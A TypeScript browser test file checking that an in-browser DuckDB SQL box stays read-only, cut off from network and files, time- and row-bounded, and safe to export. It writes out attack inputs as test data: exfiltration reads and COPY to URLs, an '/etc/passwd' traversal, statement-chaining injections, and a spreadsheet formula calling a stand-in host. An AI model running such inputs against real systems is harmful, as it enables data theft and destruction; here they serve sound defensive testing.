/**
 * The SQL box as the one door to the data: read-only by DuckDB's parser, locked away from the
 * network and the file system, and bounded in rows and time. Every request to a loopback
 * listener is counted: the lock must leave it at zero.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { downloaded, runSql, showView, sqlBoxReset, sqlEditorReady, sqlText } from './app.ts';
import { openApp, useBrowser, useSharedApp } from './browser.ts';
import { startListener, type Listener } from './listener.ts';
import {
  blankSession,
  currentSession,
  loadSample,
  sessionsReady,
  storedEvents,
} from './sessions-helpers.ts';

const browser = useBrowser();
let page: Page;
let listener: Listener;
let origin = '';

beforeAll(async () => {
  // A CSV, so that a read that got out would succeed.
  listener = await startListener('a,b\n1,2\n');
  origin = listener.origin;
});

afterAll(async () => {
  await listener?.close();
});

beforeEach(() => {
  listener.requests.length = 0;
});

const sharedSample = useSharedApp(browser, sqlBoxReset(loadSample));

/**
 * A page with the sample loaded as `data`: one shared by the tests (each leaves DuckDB working,
 * which the tests of the limits check), or its own served without headers (`bare`).
 */
async function open({ bare = false } = {}): Promise<Page> {
  if (!bare) {
    ({ page } = await sharedSample());
    return page;
  }
  ({ page } = await openApp(browser(), { bare }));
  await loadSample(page);
  return page;
}

/**
 * The shared page in a new session of its own, with the sample: its SQL box, history and query
 * ids start empty, as a session's do (a page of its own cost a boot, 2026-12-03).
 */
async function ownSession(): Promise<Page> {
  ({ page } = await sharedSample());
  await blankSession(page);
  await loadSample(page);
  await showView(page, 'data');
  return page;
}

async function expectDataIntact() {
  const result = await runSql(page, 'SELECT count(*) AS n FROM data');
  expect(result.ok && result.cells).toEqual([['2922']]);
}

const attempts = [
  () => `SELECT * FROM read_csv('${origin}/read.csv')`,
  () => `SELECT * FROM read_text('${origin}/text')`,
  () => `SELECT * FROM read_blob('${origin}/blob')`,
  () => `COPY data TO '${origin}/copy.csv'`,
  () => `COPY (SELECT * FROM data) TO 'stolen.csv'`,
  () => `ATTACH '${origin}/db.duckdb' AS remote`,
  () => `ATTACH 'local.duckdb' AS local`,
  () => 'INSTALL httpfs',
  () => 'LOAD httpfs',
  () => `SELECT * FROM glob('*')`,
  () => `SELECT * FROM read_csv('uploads/../etc/passwd')`,
  // A path standing as a table: not a call, so the guard lets DuckDB's lockdown refuse it.
  () => `SELECT * FROM '${origin}/scan.csv'`,
  () => `SELECT * FROM 'uploads/../etc/passwd.csv'`,
];

describe('nothing leaves through SQL', () => {
  // Soft: a failure names every channel that leaks, not only the first.
  it('every attempt to read or write a URL or a file fails, and no request is sent', async () => {
    await open();
    for (const attempt of attempts) {
      const result = await runSql(page, attempt());
      expect.soft(result.ok, attempt()).toBe(false);
    }
    expect(listener.requests).toEqual([]);
    await expectDataIntact();
  });

  it("holds by DuckDB's lockdown alone, with no CSP to stop the worker's requests", async () => {
    await open({ bare: true });
    for (const attempt of attempts) {
      const result = await runSql(page, attempt());
      expect.soft(result.ok, attempt()).toBe(false);
    }
    expect.soft(listener.requests).toEqual([]);
    await expectDataIntact();
  });
});

describe("read-only by DuckDB's parser", () => {
  const refused = [
    'DROP TABLE data',
    'DELETE FROM data',
    "UPDATE data SET weather = 'x'",
    'CREATE TABLE copy AS SELECT * FROM data',
    'SET enable_external_access = true',
    'SET lock_configuration = false',
    'PRAGMA enable_profiling',
    'CALL pragma_version()',
    "ATTACH ':memory:' AS m",
    'SELECT 1; DROP TABLE data',
    'SELECT 1) AS q; DROP TABLE data; SELECT * FROM (SELECT 1',
    'WITH x AS (SELECT 1) DELETE FROM data',
  ];
  it('refuses writes, settings, attachments and statement chains', async () => {
    await open();
    for (const sql of refused) {
      const result = await runSql(page, sql);
      expect.soft(result.ok, sql).toBe(false);
      if (!result.ok) expect.soft(['rejected', 'error'], sql).toContain(result.kind);
      await expectDataIntact();
    }
  });

  it('says plainly why a write or a second statement is refused', async () => {
    await open();
    const drop = await runSql(page, 'DROP TABLE data');
    expect(drop).toMatchObject({ ok: false, kind: 'rejected' });
    expect(!drop.ok && drop.message).toMatch(/read-only.*DROP/);
    const two = await runSql(page, 'SELECT 1; SELECT 2');
    expect(!two.ok && two.message).toMatch(/one statement/);
  });

  it('cannot smuggle a write through the query() table function', async () => {
    await open();
    await runSql(page, "SELECT * FROM query('DROP TABLE data')");
    await expectDataIntact();
  });

  it('runs read-only forms: WITH, FROM-first, DESCRIBE, SUMMARIZE, a trailing ; and comment', async () => {
    await open();
    for (const sql of [
      'WITH w AS (SELECT weather FROM data) SELECT count(DISTINCT weather) FROM w',
      "FROM data SELECT count(*) WHERE weather = 'snow'",
      'DESCRIBE data',
      'SUMMARIZE data',
      'SELECT 1 AS one; -- done',
    ]) {
      const result = await runSql(page, sql);
      expect(result.ok, sql).toBe(true);
    }
  });

  it('shows numbers as people read them: grouped, to a few digits, ids and years as written', async () => {
    await open();
    const result = await runSql(
      page,
      'SELECT 6018888.63::DOUBLE AS revenue, 862.022107438::DOUBLE AS ratio, 2922 AS days, 2012 AS year, 100245 AS customer_id',
    );
    // The values as typed are there (runSql reads them), and the text a person sees is this:
    expect(result).toMatchObject({
      ok: true,
      cells: [['6018888.63', '862.022107438', '2922', '2012', '100245']],
    });
    const shown = await page
      .locator('[data-testid="sql-result"] tbody td')
      .evaluateAll((tds) => tds.map((td) => [td.textContent, td.getAttribute('title')]));
    expect(shown).toEqual([
      ['6,018,888.63', '6018888.63'],
      ['862.022', '862.022107438'],
      ['2,922', '2922'],
      ['2012', null],
      ['100245', null],
    ]);
  });

  it('shows doubles without floating-point noise, the exact value on hover', async () => {
    await open();
    const result = await runSql(page, 'SELECT 0.1::DOUBLE + 0.2::DOUBLE AS x, 2012 AS year');
    expect(result).toMatchObject({ ok: true, cells: [['0.3', '2012']] });
    expect(await page.locator('[data-testid="sql-result"] tbody td').allTextContents()).toEqual([
      '0.3',
      '2012',
    ]);
    expect(await page.getAttribute('[data-testid="sql-result"] tbody td.num', 'title')).toBe(
      '0.30000000000000004',
    );
  });
});

describe('limits', () => {
  it('caps the rows shown and still counts them all', async () => {
    await open();
    const result = await runSql(page, 'SELECT * FROM range(5000)');
    expect(result).toMatchObject({ ok: true, rows: 1000, total: 5000 });
    await expect(page.locator('[data-testid="sql-result"]').textContent()).resolves.toMatch(
      /first 1,000 rows of 5,000/,
    );
    // Its file holds every row, DuckDB's text of each, and its button says so before it is saved.
    const button = page.locator('[data-testid="sql-result"] [data-testid="table-csv"]');
    expect(await button.innerText()).toBe('Download CSV (all 5,000 rows)');
    const lines = (await downloaded(page, button)).toString('utf8').split('\r\n');
    expect(lines).toHaveLength(5002);
    expect([lines[0], lines[1], lines[5000], lines[5001]]).toEqual(['range', '0', '4999', '']);
  });

  it('says why a result could not be saved whole, saves the rows shown instead, and cancels', async () => {
    await open();
    // Its first 1,000 rows come at once; all 100 million do not within the box's 1 s.
    const endless = 'SELECT * FROM range(100000000)';
    expect(await runSql(page, endless, 1)).toMatchObject({ ok: true, rows: 1000 });
    const result = page.locator('[data-testid="sql-result"]');
    await result.locator('[data-testid="table-csv"]').click();
    const failure = result.locator('[data-testid="table-csv-failure"]');
    await expect(failure.innerText({ timeout: 60_000 })).resolves.toMatch(
      /^Saving the result was stopped after 1 s, the time limit\./,
    );
    const shown = (await downloaded(page, failure.locator('[data-testid="table-csv-shown"]')))
      .toString('utf8')
      .split('\r\n');
    expect([shown.length, shown[1], shown[1000]]).toEqual([1002, '0', '999']);

    // With time enough, Cancel stops the save: nothing is said, and the next query answers.
    await page.fill('[data-testid="sql-timeout"]', '600');
    await result.locator('[data-testid="table-csv"]').click();
    await result.locator('[data-testid="table-csv-cancel"]').click({ timeout: 10_000 });
    await result.locator('[data-testid="table-csv"]').waitFor({ timeout: 30_000 });
    expect(await failure.count()).toBe(0);
    await expectDataIntact();
  });

  it('stops an endless query at the time limit, and the next query works', async () => {
    await open();
    const endless =
      'WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t';
    const result = await runSql(page, endless, 2);
    expect(result).toMatchObject({ ok: false, kind: 'timeout' });
    expect(!result.ok && result.message).toMatch(/time limit/);
    await expectDataIntact();
  });

  it('stops a cross join at the time limit', async () => {
    await open();
    const result = await runSql(
      page,
      'SELECT count(*) FROM range(100000000) a, range(100000000) b',
      2,
    );
    expect(result).toMatchObject({ ok: false, kind: 'timeout' });
    await expectDataIntact();
  });

  it('cancels a running query from the Cancel button', async () => {
    await open();
    await page.fill('[data-testid="sql-timeout"]', '600');
    await sqlEditorReady(page);
    await page.fill(
      '[data-testid="sql-input"]',
      'SELECT count(*) FROM range(100000000) a, range(100000000) b',
    );
    await page.click('[data-testid="sql-run"]');
    await page.click('[data-testid="sql-cancel"]', { timeout: 10_000 });
    const error = page.locator('[data-testid="sql-error"]');
    await expect(error.getAttribute('data-kind', { timeout: 30_000 })).resolves.toBe('cancelled');
    await expectDataIntact();
  });
});

describe('the person’s own queries', () => {
  it('start from an empty box, keep a history, and leave the page copied or as CSV', async () => {
    const own = await ownSession();
    await own.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await showView(own, 'data');
    // Empty, with an example as its placeholder: a click does not add to an old query.
    expect(await sqlText(own)).toBe('');
    expect(await own.isDisabled('[data-testid="sql-run"]')).toBe(true);

    const first = 'SELECT weather, count(*) AS days FROM data GROUP BY weather ORDER BY days DESC';
    const second = "SELECT max(precipitation) AS wettest FROM data WHERE location = 'Seattle'";
    expect(await runSql(own, first)).toMatchObject({ ok: true, rows: 5 });
    const result = own.locator('[data-testid="sql-result"]');
    await result.locator('[data-testid="copy"]').click();
    await expect
      .poll(() => own.evaluate(() => navigator.clipboard.readText()))
      .toMatch(/^weather\tdays\nsun\t1466\n/);
    const csv = await downloaded(own, result.locator('[data-testid="table-csv"]'));
    expect(csv.toString('utf8')).toMatch(/^weather,days\r\nsun,1466\r\n/);
    expect(await runSql(own, second)).toMatchObject({ ok: true, rows: 1 });

    const history = own.locator('[data-testid="sql-history"]');
    await history.locator('summary').click();
    expect(await history.locator('[data-testid="sql-history-item"]').allTextContents()).toEqual([
      second,
      first,
    ]);
    // Each run is a query of the session's series, with its id like the model's.
    expect(await result.locator('[data-testid="query-id"]').innerText()).toBe('Q2');
    // An earlier query goes back into the box in place of what was there, its old result gone.
    await history.locator('[data-testid="sql-history-item"]').nth(1).click();
    expect(await sqlText(own)).toBe(first);
    expect(await own.locator('[data-testid="sql-result"]').count()).toBe(0);

    // A DuckDB error keeps its lines and its caret, in a fixed-width font.
    const wrong = await runSql(own, 'SELECT location,\n  nope\nFROM data');
    expect(wrong.ok).toBe(false);
    const text = own.locator('[data-testid="sql-error"] pre').first();
    expect(await text.innerText()).toMatch(/\n/);
    expect(await text.evaluate((el) => getComputedStyle(el).fontFamily)).toMatch(/mono/i);

    // The history is the session's: it is there after a reload, failed query marked.
    const session = await currentSession(own);
    await expect
      .poll(
        async () => (await storedEvents(own, session)).filter((e) => e.type === 'own_query').length,
      )
      .toBe(3);
    await own.reload();
    await sessionsReady(own, 1);
    await showView(own, 'data');
    await history.locator('summary').click();
    expect(await history.locator('[data-testid="sql-history-item"]').allTextContents()).toEqual([
      'SELECT location,\n  nope\nFROM data',
      second,
      first,
    ]);
    // The session's list of queries has the person's too, each anchored for a citation.
    const listed = own.locator('[data-testid="session-query"][data-own]');
    expect(await listed.evaluateAll((li) => li.map((l) => l.id))).toEqual([
      'query-Q1',
      'query-Q2',
      'query-Q3',
    ]);
    // Each says what it came to in one line, its parts apart ("5 rows · 12 ms").
    expect(await listed.first().locator('.line .muted').innerText()).toMatch(
      /^5 rows · [\d.,]+ m?s$/,
    );
    expect(await listed.last().locator('.line .muted').innerText()).toMatch(/^failed · /);

    // A cell that a sheet would run once pasted leaves as text, in the copy as in the file
    // (issue 46); a number written as text stays a number.
    const formula = `SELECT '=IMAGE("http://x.example/?d="&B2)' AS f, '-9007199254740993' AS n`;
    expect(await runSql(own, formula)).toMatchObject({ ok: true, rows: 1 });
    await result.locator('[data-testid="copy"]').click();
    await expect
      .poll(() => own.evaluate(() => navigator.clipboard.readText()))
      .toBe(`f\tn\n'=IMAGE("http://x.example/?d="&B2)\t-9007199254740993\n`);
    const guarded = await downloaded(own, result.locator('[data-testid="table-csv"]'));
    expect(guarded.toString('utf8')).toBe(
      `f,n\r\n"'=IMAGE(""http://x.example/?d=""&B2)",-9007199254740993\r\n`,
    );
  });
});

describe('a chart of the person’s result', () => {
  it('draws bars at the first click, and points at the second choice', async () => {
    const own = (await sharedSample()).page;
    const sql = 'SELECT weather, count(*) AS days FROM data GROUP BY weather ORDER BY days DESC';
    const result = await runSql(own, sql);
    expect(result).toMatchObject({ ok: true, rows: 5 });
    const box = own.locator('[data-testid="sql-result"]');
    await box.locator('[data-testid="sql-chart"]').click();
    const plot = box.locator('[data-testid="plot"][data-rendered]');
    await plot.waitFor();
    // One bar for each row, in the result's order, labelled by the rows' values.
    expect(await plot.locator('.mark-rect path').count()).toBe(5);
    const labels = await plot.locator('.role-axis-label text').allTextContents();
    const weathers = result.ok ? result.cells.map((r) => r[0]) : [];
    expect(labels.slice(0, 5)).toEqual(weathers);
    expect(await box.locator('[data-testid="chart-x"]').inputValue()).toBe('weather');
    expect(await box.locator('[data-testid="chart-y"]').inputValue()).toBe('days');

    await box.locator('[data-testid="chart-mark"]').selectOption('point');
    await expect.poll(() => plot.locator('.mark-symbol path').count()).toBe(5);
    expect(await plot.locator('.mark-rect path').count()).toBe(0);
  });
});

describe('values reach the page as the person would read them', () => {
  it('converts big integers, decimals, dates, lists and NULL deliberately', async () => {
    await open();
    const result = await runSql(
      page,
      `SELECT 12345678901234567890::HUGEINT AS big, 9007199254740993::BIGINT AS over53,
              42::BIGINT AS small, 1.25::DECIMAL(10,2) AS dec, DATE '2024-01-02' AS d,
              TIMESTAMP '2024-01-02 03:04:05' AS ts, [1, 2] AS l, NULL AS n, 'NaN'::DOUBLE AS nan`,
    );
    expect(result.ok && result.header).toEqual([
      'big',
      'over53',
      'small',
      'dec',
      'd',
      'ts',
      'l',
      'n',
      'nan',
    ]);
    expect(result.ok && result.cells).toEqual([
      [
        '12345678901234567890',
        '9007199254740993',
        '42',
        '1.25',
        '2024-01-02',
        '2024-01-02 03:04:05',
        '[1, 2]',
        null,
        'NaN',
      ],
    ]);
  });

  it('shows columns with the same name side by side', async () => {
    await open();
    const result = await runSql(page, 'SELECT 1 AS x, 2 AS x');
    expect(result.ok && result.cells).toEqual([['1', '2']]);
  });
});
